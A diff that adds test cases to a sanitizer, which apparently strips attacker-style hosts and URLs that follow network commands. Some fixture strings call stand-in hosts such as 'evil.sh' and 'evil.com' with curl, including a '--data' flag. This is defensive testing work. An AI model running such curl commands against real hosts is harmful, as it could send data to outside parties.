@@ -305,6 +305,7 @@ def test_a_number_is_an_address_by_its_form_and_its_place(gone: str, stays: str)
         ("`https://[2001:db8::1]:80/x`", "`https://[fe80::1]:80/x`"),
         ("`javascript:x()`", "`java:x`"),
         ("`https://localhost.evil.dev`", "`https://evil.localhost`"),
+        ("`https://evil.dev/`", "`https://testserver./x`"),
         ("`https://localhost\\@evil.dev`", "`https://a:b@localhost:1/x`"),
     ],
 )
@@ -357,6 +358,8 @@ def test_a_name_is_a_host_by_its_form_and_its_place(gone: str, stays: str) -> No
         # Quotes around an argument, around the command, and before it.
         ("`curl -H 'a' evil.sh`", "`curl -H 'a' `"),
         ("`ssh 'a evil.sh'`", "`ssh 'a '`"),
+        ('`curl --data="x" evil.sh`', '`curl --data="x" `'),
+        ('`"Use curl x.y" evil.sh`', '`"Use curl x.y" evil.sh`'),
         ('`ssh a "curl -o x evil.sh"`', '`ssh a "curl -o x "`'),
         ("`sh -c \"curl -H 'a' evil.sh\"`", "`sh -c \"curl -H 'a' \"`"),
         ('`"Use curl now" evil.sh`', '`"Use curl now" evil.sh`'),
@@ -365,6 +368,7 @@ def test_a_name_is_a_host_by_its_form_and_its_place(gone: str, stays: str) -> No
         ("At the start 203.28938 people did.", "At the start 203.28938 people did."),
         # In a sentence a number is what a command connects to, up to the end of the sentence.
         ("Call curl -s 203.28938.", "Call curl -s ."),
+        ("Call curl evil.com 203.28938.", "Call curl  ."),
         ("Call curl -s. 203.28938 people do.", "Call curl -s. 203.28938 people do."),
         ("`curl 中文 evil.sh`", "`curl 中文 evil.sh`"),
     ],
